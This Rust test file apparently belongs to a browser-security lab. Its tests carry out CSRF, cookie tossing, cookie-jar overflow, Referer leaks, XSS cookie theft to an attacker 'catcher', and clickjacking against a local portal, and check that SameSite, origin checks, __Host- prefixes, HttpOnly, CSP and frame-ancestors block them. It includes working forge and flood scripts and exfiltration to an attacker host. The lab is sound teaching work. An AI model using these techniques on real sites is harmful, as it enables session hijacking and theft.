//! The attacker's tricks, each in a real browser against the side that it is made for and against the
//! defence that stops it.

use std::time::Duration;

use session_lab::web::addresses::Listener::{self, Attacker, PortalHttp};
use session_lab::web::addresses::SIBLING;

use super::tab::{PATIENCE, Tab};

/// A page of the attacker's site.
fn on_attacker(tab: &Tab, path: &str) -> String {
    tab.address(Attacker, path)
}

/// A page of the sibling host.
fn on_sibling(tab: &Tab, path: &str) -> String {
    on_attacker(tab, path).replace("//127.0.0.1:", &format!("//{SIBLING}:"))
}

/// The portal beside the sibling, in clear.
fn beside_sibling(tab: &Tab, variant: &str) -> String {
    tab.address_at("portal.localhost", PortalHttp, &format!("/{variant}"))
}

/// Who is signed in at a portal, as a script of that portal's own reads it.
async fn who(tab: &Tab, portal: &str) -> serde_json::Value {
    tab.visit(&format!("{portal}/")).await;
    let ask = format!("fetch('{portal}/api/check_session').then((answer) => answer.json())");
    tab.run::<serde_json::Value>(&ask).await["user"]["username"].clone()
}

async fn balance(tab: &Tab, portal: &str) -> String {
    tab.visit(&format!("{portal}/dashboard")).await;
    tab.text(".money").await
}

/// Posts a notice on the board where the tab is signed in.
async fn post_notice(tab: &Tab, portal: &str, notice: &str) {
    tab.visit(&format!("{portal}/board")).await;
    tab.fill_in("#text", notice).await;
    tab.follow("main form button").await;
}

/// Waits until something that fits has arrived at the catcher.
async fn caught(tab: &Tab, part: &str) -> String {
    let wait = async {
        loop {
            let loot = tab.bench.victim().get("/loot").await.shown();
            if loot.contains(part) {
                return loot;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    tokio::time::timeout(PATIENCE, wait).await.expect(part)
}

/// Waits until the journal tells of a transfer to mallory.
async fn paid(tab: &Tab, variant: &str) {
    let wait = async {
        loop {
            let events = tab.bench.events(variant).await;
            if events.iter().any(|event| event.contains("to mallory")) {
                return;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    let end = tokio::time::timeout(PATIENCE, wait).await;
    end.expect("a transfer to mallory");
}

#[tokio::test]
async fn the_cookie_rides_with_a_foreign_form_unless_same_site_forbids_it() {
    for (variant, left) in [("insecure", "900"), ("only-same-site", "1000")] {
        let Some(tab) = Tab::open().await else { return };
        let portal = tab.address(PortalHttp, &format!("/{variant}"));
        tab.sign_in(&portal).await;
        tab.visit(&on_attacker(&tab, &format!("/csrf-form?variant={variant}")))
            .await;
        tab.follow("#trap button").await;
        assert_eq!(balance(&tab, &portal).await, left, "{variant}");
    }
}

#[tokio::test]
async fn strict_lets_a_form_of_the_sibling_through_and_the_origin_check_does_not() {
    for (origin, left) in [("unchecked", "900"), ("checked", "1000")] {
        let Some(tab) = Tab::open().await else { return };
        let arms = [("same-site", "strict"), ("request-origin", origin)];
        tab.bench.choose("insecure", &arms).await;
        let portal = beside_sibling(&tab, "custom");
        tab.sign_in(&portal).await;
        // The sibling's own page posts a form to the portal.
        tab.visit(&on_sibling(&tab, "/cors?variant=custom")).await;
        let forge = format!(
            "(() => {{
                const form = document.createElement('form');
                [form.method, form.action] = ['post', '{portal}/transfer'];
                for (const [name, value] of [['to', 'mallory'], ['amount', '100']]) {{
                    const field = document.createElement('input');
                    [field.name, field.value] = [name, value];
                    form.append(field);
                }}
                document.body.append(form);
                form.submit();
            }})()"
        );
        tab.load(async || tab.run::<()>(&forge).await).await;
        assert_eq!(balance(&tab, &portal).await, left, "{origin}");
    }
}

#[tokio::test]
async fn a_tossed_cookie_makes_the_victim_mallory_unless_its_name_begins_with_host() {
    for (prefix, user) in [("plain", "mallory"), ("host", "student123")] {
        let Some(tab) = Tab::open().await else { return };
        // The cookies beside the session say who it is, too, and no prefix protects them.
        let arms = [
            ("host-prefix", prefix),
            ("secure", "present"),
            ("client-state", "record"),
        ];
        tab.bench.choose("insecure", &arms).await;
        let portal = beside_sibling(&tab, "custom");
        tab.sign_in(&portal).await;
        tab.visit(&on_sibling(&tab, "/tossing?variant=custom"))
            .await;
        tab.follow(".bait form button").await;
        assert_eq!(who(&tab, &portal).await, user, "{prefix}");
    }
}

#[tokio::test]
async fn a_script_pushes_an_http_only_cookie_out_of_the_jar_and_plants_its_own() {
    let Some(tab) = Tab::open().await else { return };
    let portal = beside_sibling(&tab, "only-http-only");
    tab.sign_in(&portal).await;
    let name = format!("session_lab_{}", tab.bench.name);
    let plant = format!("document.cookie = '{name}=evil; Path=/'; document.cookie");
    let before: String = tab.run(&plant).await;
    assert!(!before.contains(&name), "HttpOnly holds: {before}");

    let flood = "for (let n = 0; n < 200; n++) document.cookie = `junk${n}=x; Path=/`";
    tab.run::<serde_json::Value>(flood).await;
    let after: String = tab.run(&plant).await;
    assert!(after.contains(&format!("{name}=evil")), "{after}");
    let kept = tab.cookies(&portal).await;
    let mine: Vec<_> = kept.iter().filter(|cookie| cookie.name == name).collect();
    assert_eq!(mine.len(), 1);
    assert_eq!((mine[0].value.as_str(), mine[0].http_only), ("evil", false));
}

#[tokio::test]
async fn an_id_in_the_address_leaks_by_referer_only_under_unsafe_url() {
    for (variant, leaks) in [("insecure", true), ("only-referrer", false)] {
        let Some(tab) = Tab::open().await else { return };
        let portal = tab.address(PortalHttp, &format!("/{variant}"));
        tab.sign_in(&portal).await;
        let picture = on_attacker(&tab, "/collect/picture");
        post_notice(&tab, &portal, &format!("<img src=\"{picture}\">")).await;
        let cookies = tab.cookies(&format!("{portal}/")).await;
        let cookie = cookies.iter().find(|c| c.name.starts_with("session_"));
        let id = &cookie.expect("signed in").value;
        tab.bench.victim().post_form("/loot/clear", &[]).await;
        tab.visit(&format!("{portal}/board?sid={id}")).await;
        let loot = caught(&tab, "/collect/picture").await;
        assert_eq!(loot.contains(&format!("/board?sid={id}")), leaks, "{loot}");
    }
}

/// The text of a payload on the attacker's own page.
async fn payload(tab: &Tab, variant: &str, id: &str) -> String {
    tab.visit(&on_attacker(tab, &format!("/xss?variant={variant}")))
        .await;
    let text = format!("document.getElementById('{id}-text').textContent");
    tab.run(&text).await
}

#[tokio::test]
async fn a_script_on_the_board_sends_the_cookie_to_the_catcher_unless_it_is_http_only() {
    for (variant, stolen) in [("insecure", true), ("only-http-only", false)] {
        let Some(tab) = Tab::open().await else { return };
        let payload = payload(&tab, variant, "steal").await;
        let portal = tab.address(PortalHttp, &format!("/{variant}"));
        tab.sign_in(&portal).await;
        post_notice(&tab, &portal, &payload).await;
        let loot = caught(&tab, "/collect?cookie=").await;
        let cookies = tab.cookies(&format!("{portal}/")).await;
        let cookie = cookies.iter().find(|c| c.name.starts_with("session_"));
        let cookie = cookie.expect("signed in");
        let pair = format!("{}={}", cookie.name, cookie.value);
        assert_eq!(loot.contains(&pair), stolen, "{variant}: {loot}");
    }
}

#[tokio::test]
async fn a_script_on_the_board_rides_the_session_although_the_cookie_is_http_only() {
    for (csp, left) in [("absent", "999"), ("nonce", "1000")] {
        let Some(tab) = Tab::open().await else { return };
        let arms = [("output", "raw"), ("csp", csp)];
        tab.bench.choose("hardened", &arms).await;
        let payload = payload(&tab, "custom", "ride").await;
        let portal = tab.address(Listener::PortalHttps, "/custom");
        tab.sign_in(&portal).await;
        post_notice(&tab, &portal, &payload).await;
        if csp == "absent" {
            paid(&tab, "custom").await;
        }
        assert_eq!(balance(&tab, &portal).await, left, "{csp}");
    }
}

#[tokio::test]
async fn the_siblings_frame_shows_the_signed_in_portal_unless_framing_is_denied() {
    for (variant, shown) in [("insecure", true), ("only-framing", false)] {
        let Some(mut tab) = Tab::open().await else {
            return;
        };
        let portal = beside_sibling(&tab, variant);
        tab.sign_in(&portal).await;
        tab.complaints().await;
        tab.visit(&on_sibling(
            &tab,
            &format!("/clickjacking?variant={variant}"),
        ))
        .await;
        let refused = tab.complaints().await;
        let refused = refused.iter().any(|line| line.contains("frame-ancestors"));
        assert_eq!(refused, !shown, "{variant}");
        // A click on the attacker's button is a click on the portal's.
        let place: [f64; 4] = tab
            .run(
                "(() => {
                    const { x, y, width, height } = document.querySelector('.lure')
                        .getBoundingClientRect();
                    return [x, y, width, height];
                })()",
            )
            .await;
        let middle =
            chromiumoxide::layout::Point::new(place[0] + place[2] / 2.0, place[1] + place[3] / 2.0);
        tab.page.click(middle).await.expect("a click");
        if shown {
            paid(&tab, variant).await;
        }
        let left = if shown { "950" } else { "1000" };
        assert_eq!(balance(&tab, &portal).await, left, "{variant}");
    }
}
